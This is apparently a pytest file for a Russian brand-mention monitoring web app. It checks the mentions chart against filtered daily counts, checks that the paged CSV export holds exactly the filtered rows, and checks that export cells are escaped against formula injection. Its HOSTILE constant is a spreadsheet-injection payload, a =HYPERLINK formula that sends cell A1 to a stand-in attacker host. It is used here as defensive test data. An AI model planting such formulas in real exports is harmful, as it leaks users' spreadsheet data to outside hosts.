"""The mentions page's chart and CSV file match the store: the chart's bars are the filter's
counts per local day, the CSV holds exactly the filter's mentions (paged, on both stores), and
hostile text survives the file as text, never as a formula."""

from __future__ import annotations

import csv
import html
import io
import json
import random
import re
from collections import Counter
from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy import select

from otklik.actions.unit import transaction
from otklik.db.models import Brand, Mention
from otklik.domain.enrichment import Enriched
from otklik.domain.posts import Author
from otklik.figures import overview as data
from otklik.figures.buckets import key_of
from otklik.flow.pipeline import ingest
from otklik.web import mention_csv
from otklik.web.mention_csv import safe_cell
from otklik.wording.words import zone
from tests.factories import make_post
from tests.web.conftest import Desk

CHART_RE = re.compile(r'id="mention-chart" class="chart" data-chart="([^"]*)"')
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1, "нажми")\nвторая строка, "кавычки"; -1+1'


def _seed(desk: Desk, n: int = 120) -> tuple[int, datetime]:
    rng = random.Random(19)
    now = datetime.now(UTC)
    posts = [make_post(created_at=now - timedelta(minutes=rng.randint(0, 12 * 1440)))
             for _ in range(n)]
    posts.append(make_post(text=HOSTILE, created_at=now - timedelta(hours=1),
                           author=Author(external_id="evil", handle="evil", name="@evil")))
    with transaction(desk.store.sessions) as s:
        brand = Brand(slug="zerno", name="Зерно")
        s.add(brand)
        s.flush()
        brand_id = brand.id

    def label(batch: list[Enriched]) -> None:
        for i, item in enumerate(batch):
            item.sentiment = ("negative", "neutral", "positive", None)[i % 4]
            if i % 3:
                item.brand_matches = {brand_id: []}

    with transaction(desk.store.sessions) as s:
        ingest(s, posts, enrichers=[label])
    return brand_id, now


def test_the_chart_is_the_filters_count_per_local_day(any_desk: Desk) -> None:
    brand_id, now = _seed(any_desk)
    since = (now - timedelta(days=9)).date().isoformat()
    response = any_desk.client("viewer").get(
        f"/mentions?brand={brand_id}&since={since}&sentiment=negative")
    assert response.status_code == 200
    chart = json.loads(html.unescape(CHART_RE.search(response.text).group(1)))
    tz = zone(None, "ru")  # no brand names a zone: the Russian desk's default
    f = data.MentionFilter(brand_id=brand_id, sentiment="negative",  # the date is a local day
                           since=datetime.fromisoformat(since).replace(tzinfo=tz))
    with any_desk.store.sessions() as s:
        total = data.count_mentions(s, f)
        rows = data.list_mentions(s, f, limit=10_000).mentions
    assert sum(chart["n"]) == total > 0
    assert f"Найдено упоминаний: {total}" in response.text
    per_day = Counter(key_of(m.created_at, "day", tz) for m in rows)
    assert dict(zip(chart["t"], chart["n"], strict=True)) == {
        k: per_day[k] for k in chart["t"]}
    assert chart["negn"] == chart["n"]  # the filter is the negatives


def test_the_csv_holds_exactly_the_filters_mentions(any_desk: Desk, monkeypatch: Any) -> None:
    monkeypatch.setattr(mention_csv, "PAGE", 7)  # many pages from a small store
    brand_id, _ = _seed(any_desk)
    client = any_desk.client("viewer")
    for query, f in [(f"brand={brand_id}", data.MentionFilter(brand_id=brand_id)),
                     ("sentiment=positive", data.MentionFilter(sentiment="positive")),
                     ("", data.MentionFilter())]:
        response = client.get(f"/mentions/export.csv?{query}")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        assert response.content.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        with any_desk.store.sessions() as s:
            expected = data.count_mentions(s, f)
        assert rows[0][0].startswith("Время (")
        assert len(rows) - 1 == expected > 0
        ids = [int(r[-1]) for r in rows[1:]]
        assert len(set(ids)) == len(ids) and ids == sorted(ids, reverse=True)


def test_hostile_text_round_trips_as_text(any_desk: Desk) -> None:
    _seed(any_desk, n=3)
    response = any_desk.client("viewer").get("/mentions/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    hostile = [dict(zip(header, r, strict=True)) for r in body if "HYPERLINK" in r[4]]
    assert len(hostile) == 1
    assert hostile[0]["Текст"] == "'" + HOSTILE  # the newline and quotes intact, not a formula
    assert hostile[0]["Автор"] == "'@evil"
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    with any_desk.store.sessions() as s:
        assert s.scalar(select(Mention.text).where(Mention.text.like("=HYPERLINK%"))) == HOSTILE


def test_a_bad_query_is_refused_before_the_file_starts(desk: Desk) -> None:
    response = desk.client("viewer").get("/mentions/export.csv?q=кофе AND (")
    assert response.status_code == 422


def test_safe_cell() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("+7 900") == "'+7 900"
    assert safe_cell("-x") == "'-x"
    assert safe_cell("@all") == "'@all"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("кофе = вкусно") == "кофе = вкусно"
    assert safe_cell(None) == ""


def test_a_query_filter_exports_what_the_query_matches(desk: Desk) -> None:
    _seed(desk, n=20)
    response = desk.client("viewer").get("/mentions/export.csv?q=HYPERLINK")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2 and rows[1][4] == "'" + HOSTILE
